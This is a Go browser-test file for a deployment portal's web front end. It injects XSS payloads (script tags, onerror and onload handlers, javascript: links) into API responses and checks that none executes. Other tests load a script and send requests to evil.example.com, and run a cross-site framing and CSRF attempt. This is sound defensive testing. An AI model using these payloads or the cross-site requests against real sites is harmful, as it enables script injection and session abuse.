package portal_test

import (
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	catalogv1 "github.com/towpath-dev/towpath/gen/towpath/catalog/v1"
	"github.com/towpath-dev/towpath/internal/auth"
)

// hostileText runs a script wherever text becomes markup.
const hostileText = ` <img src=x onerror="window.pwned=1"><script>window.pwned=1</script>"'><svg onload=window.pwned=1>`

// structural are texts that the pages go by, and no free text: names of resources, enums, numbers, times, digests.
var structural = regexp.MustCompile(`^(applications/|sets/|[A-Z_]+$|\d+$|[0-9a-f]{8,}$|\d{4}-\d\d-\d\dT|javascript:)`)

// hostile puts it into every free text of the API's answers, and into every name of a map, such as a variable's.
func hostile(next http.Handler, changed *atomic.Int64) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasPrefix(r.URL.Path, "/v1/") || r.URL.Path == "/v1/access:allowed" {
			next.ServeHTTP(w, r)
			return
		}
		next.ServeHTTP(&hostileWriter{movedWriter{ResponseWriter: w}, changed}, r)
	})
}

type hostileWriter struct {
	movedWriter
	changed *atomic.Int64
}

func (w *hostileWriter) Write(b []byte) (int, error) {
	w.Header().Del("Content-Length")
	var v any
	out := b
	if len(bytes.TrimSpace(b)) > 0 && json.Unmarshal(b, &v) == nil {
		out, _ = json.Marshal(poison("", v, w.changed))
	}
	_, err := w.ResponseWriter.Write(out)
	return len(b), err
}

func poison(key string, v any, changed *atomic.Int64) any {
	switch v := v.(type) {
	case string:
		if key == "content" || key == "etag" || key == "nextPageToken" || structural.MatchString(v) {
			return v
		}
		changed.Add(1)
		return v + hostileText
	case []any:
		for i := range v {
			v[i] = poison(key, v[i], changed)
		}
	case map[string]any:
		for _, k := range slices.Collect(maps.Keys(v)) {
			x := poison(k, v[k], changed)
			v[k] = x
			if key == "variables" || key == "workloads" || key == "trailers" {
				delete(v, k)
				v[k+hostileText] = x
			}
		}
	}
	return v
}

func TestInABrowserNoTextOfOthersBecomesAScript(t *testing.T) {
	t.Parallel()
	for _, pg := range portalPages {
		if pg.stranger {
			continue
		}
		t.Run(pg.name, func(t *testing.T) {
			t.Parallel()
			shop := pg.shop
			if shop == nil {
				shop = newShop
			}
			s := shop(t)
			for _, list := range s.deployments {
				for _, d := range list {
					d.PullRequest = &catalogv1.PullRequest{Url: "javascript:window.pwned=1", Number: 7}
				}
			}
			var changed atomic.Int64
			s.front = func(next http.Handler) http.Handler { return hostile(next, &changed) }
			p := open(t, serve(t, s).URL)
			p.signIn(adminToken)
			p.do(chromedp.Navigate(p.base+"/docs"), chromedp.Navigate(p.base+pg.at))
			p.wait("it is drawn", `document.querySelector("main h1, main h2") && !document.getElementById("main").innerText.includes("Reading")`)
			p.js(`for (const d of document.querySelectorAll("details")) d.open = true`)
			if changed.Load() == 0 {
				t.Fatal("no text was made hostile")
			}
			if found := ask[string](p, `[window.pwned && "a script ran", ...[...document.querySelectorAll("main script, main img, svg[onload], [onerror], [onclick], [href^='javascript:'], [src='x']")].map((e) => e.outerHTML.slice(0, 200))].filter(Boolean).join("\n")`); found != "" {
				t.Errorf("text became markup:\n%s", found)
			}
			p.clean()
		})
	}
}

func TestInABrowserTheContentPolicyHoldsWhatGetsThrough(t *testing.T) {
	t.Parallel()
	p := open(t, serve(t, newShop(t)).URL)
	p.signIn(adminToken)
	p.js(`{
		const s = document.createElement("script"); s.textContent = "window.pwned = 1"; document.body.append(s);
		const i = document.createElement("img"); i.setAttribute("onerror", "window.pwned = 1"); i.src = "data:,"; document.body.append(i);
		const a = document.createElement("a"); a.href = "javascript:window.pwned=1"; document.body.append(a); a.click();
		const f = document.createElement("form"); f.action = "https://evil.example.com/"; document.body.append(f); f.submit();
		const r = document.createElement("script"); r.src = "https://evil.example.com/x.js"; document.body.append(r);
		fetch("https://evil.example.com/").then(() => { window.pwned = 1; }, () => { window.refused = 1; });
	}`)
	p.wait("what goes to another host is refused", "window.refused")
	if ask[bool](p, "!!window.pwned || !location.href.startsWith("+quote(p.base)+")") {
		t.Error("the page was taken over")
	}
	told := ""
	for len(p.errors) > 0 {
		told += <-p.errors + "\n"
	}
	for _, directive := range []string{"script-src 'self'", "form-action 'self'", "connect-src 'self'"} {
		if !strings.Contains(told, directive) {
			t.Errorf("%s is not what held; the browser says:\n%s", directive, told)
		}
	}
}

func TestInABrowserAnotherSiteCanNeitherChangeNorFrameAnything(t *testing.T) {
	t.Parallel()
	s := newShop(t)
	web := serve(t, s)
	p := open(t, web.URL)
	p.signIn(adminToken)
	p.see("quieter logs")
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(`<!doctype html><title>Evil</title><iframe src="` + web.URL + `/" onload="window.framed=1"></iframe>
			<iframe name="out" title="out"></iframe><form method="post" target="out" enctype="text/plain" action="` + web.URL + `/v1/applications?applicationId=evil"><input name='{"displayName":"' value='"}'></form>`))
	}))
	t.Cleanup(evil.Close)
	elsewhere := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1) // another site, not only another port
	p.do(chromedp.Navigate(elsewhere))
	p.wait("the frame is refused", "window.framed")
	p.js(`document.forms[0].submit()`)
	const send = `Promise.allSettled(["POST", "DELETE", "PATCH"].map((method) => fetch(%s, {method, mode: "no-cors", credentials: "include", body: method === "POST" ? "{}" : undefined}))).then((r) => { window.sent = JSON.stringify(r.map((x) => x.status)); })`
	p.js(strings.Replace(send, "%s", quote(web.URL+"/v1/applications?applicationId=evil"), 1) + "; undefined")
	p.wait("all is sent", "window.sent")
	p.js(`fetch(` + quote(web.URL+"/v1/whoami") + `, {credentials: "include"}).then((r) => r.text()).then((x) => { window.read = x; }, () => { window.read = "nothing"; })`)
	p.wait("reading is over", "window.read")
	if read := ask[string](p, "window.read"); read != "nothing" {
		t.Errorf("another site reads %s", read)
	}
	told := ""
	for len(p.errors) > 0 {
		told += <-p.errors + "\n"
	}
	if !strings.Contains(told, "frame-ancestors") && !strings.Contains(told, "X-Frame-Options") {
		t.Errorf("the portal was framed; the browser says:\n%s", told)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.apps) != 2 {
		t.Errorf("another site has made an application: %v", s.apps)
	}
}

// offers tells which action a button or a link is for, by its name.
var offers = []struct {
	name   *regexp.Regexp
	action auth.Action
}{
	{regexp.MustCompile(`^(Revert|Ignore)`), auth.Revert},
	{regexp.MustCompile(`^Accept`), auth.ManageDrafts},
	{regexp.MustCompile(`^Delete`), auth.DeleteEnvironment},
	{regexp.MustCompile(`^Sync`), auth.Sync},
	{regexp.MustCompile(`^Roll back`), auth.Rollback},
	{regexp.MustCompile(`^(New environment|New application)$`), auth.CreateEnvironment},
	{regexp.MustCompile(`^(Edit|Remove|Reset|Overwrite|Restore) |^Add a variable`), auth.Deploy},
	{regexp.MustCompile(`^Promote`), auth.Promote},
	{regexp.MustCompile(`^(Approve|Reject)`), auth.Approve},
	{regexp.MustCompile(`^Lock`), auth.Lock},
	{regexp.MustCompile(`^Unlock`), auth.Unlock},
	{regexp.MustCompile(`^(Extend|Keep)`), auth.ExtendEnvironment},
}

// TestInABrowserNobodyIsOfferedWhatTheyMayNotDo asks the policies about everything that is offered to each kind of caller.
func TestInABrowserNobodyIsOfferedWhatTheyMayNotDo(t *testing.T) {
	t.Parallel()
	callers := []string{viewerToken, developerToken, approverToken}
	if b, err := os.ReadFile("assets/session.js"); err != nil || !strings.Contains(string(b), "mayChange") {
		callers = append(callers, deployerToken) // that function tells a deployer from a viewer, and from nobody else
	}
	for _, token := range callers {
		t.Run(stubCallers[token].Subject, func(t *testing.T) {
			t.Parallel()
			s := newShop(t)
			decide, err := stubPolicies(s)
			if err != nil {
				t.Fatal(err)
			}
			p := open(t, serve(t, s).URL)
			p.signIn(token)
			for _, at := range []string{"#/", "#/shop/dev", "#/shop/dev/history", "#/shop/production/history"} {
				p.visit(at)
				p.wait("it is drawn", `document.querySelector("main h1") && !document.getElementById("main").innerText.includes("Reading")`)
				for _, name := range strings.Split(ask[string](p, `[...document.querySelectorAll("main button:not(.asks), main a[href^='#/new'], main summary")].filter((b) => b.checkVisibility()).map((b) => (b.getAttribute("aria-label") || b.innerText).trim()).join("\n")`), "\n") {
					for _, o := range offers {
						if !o.name.MatchString(name) {
							continue
						}
						d, err := decide.Decide(t.Context(), stubCallers[token], o.action, auth.ParseResource(shopDev))
						if err != nil {
							t.Fatal(err)
						}
						if !d.Allowed {
							t.Errorf("%s offers %q to %s, who may not %s", at, name, stubCallers[token].Subject, o.action)
						}
					}
				}
			}
			p.clean()
		})
	}
}
